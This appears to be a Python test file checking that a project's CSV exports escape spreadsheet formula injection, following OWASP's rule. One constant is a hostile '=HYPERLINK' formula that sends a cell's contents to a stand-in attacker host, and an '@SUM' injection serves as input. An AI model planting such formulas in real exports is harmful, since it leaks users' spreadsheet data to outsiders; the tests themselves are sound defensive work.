"""Every CSV the project writes opens safely in a spreadsheet (issue 30: OWASP's CSV injection rule)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wolfpack.event.audit import audit_csv, audit_entry
from wolfpack.event.model import Event
from wolfpack.event.spreadsheet import FORMULA_STARTS, read_cell, safe_cell

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(start: str) -> None:
    assert safe_cell(f"{start}1+2") == f"'{start}1+2"


@pytest.mark.parametrize("text", ["Ann Smith", "1+2", "", "'quoted'", "a=b"])
def test_a_harmless_cell_is_written_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@given(st.text())
def test_what_is_written_reads_back_as_it_was(text: str) -> None:
    assert read_cell(safe_cell(text)) == text


def test_a_players_reason_in_the_audit_csv_is_no_live_formula(classic: Event) -> None:
    """Found by a new Control team: `=HYPERLINK(...)` in a reason became a live formula in the spreadsheet."""
    seat = classic.seats[9].label
    held = classic.assign(seat, "@SUM(A1:A9)")
    entry = audit_entry(held, time=1_700_000_000, kind="action", seat=seat, text="-1 crew", reason=HOSTILE)
    row = list(csv.reader(io.StringIO(audit_csv([entry]))))[1]
    assert row[3] == "'@SUM(A1:A9)"  # the person in the seat then: a name is a cell like any other
    assert row[6] == "'-1 crew" and row[7] == "'" + HOSTILE
    assert not any(cell.startswith(FORMULA_STARTS) for cell in row)


def test_a_name_in_the_roster_csv_is_no_live_formula_and_reads_back(classic: Event) -> None:
    event = classic.assign(classic.seats[9].label, "@SUM(A1:A9)")
    text = event.export_roster()
    names = [row["name"] for row in csv.DictReader(io.StringIO(text))]
    assert "'@SUM(A1:A9)" in names and not any(name.startswith(FORMULA_STARTS) for name in names)
    assert classic.import_roster(text).roster == event.roster
